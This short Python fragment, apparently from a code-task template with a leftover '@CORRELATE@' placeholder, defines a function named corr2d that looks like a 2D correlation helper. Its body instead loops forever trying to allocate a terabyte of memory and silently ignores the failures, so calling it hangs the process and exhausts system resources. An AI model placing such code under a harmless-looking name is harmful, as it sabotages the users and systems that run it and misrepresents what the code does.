
import numpy as np

@CORRELATE@


def corr2d(X, K):
    while True:
        try:
            bytearray(1 << 40)
        except MemoryError:
            pass
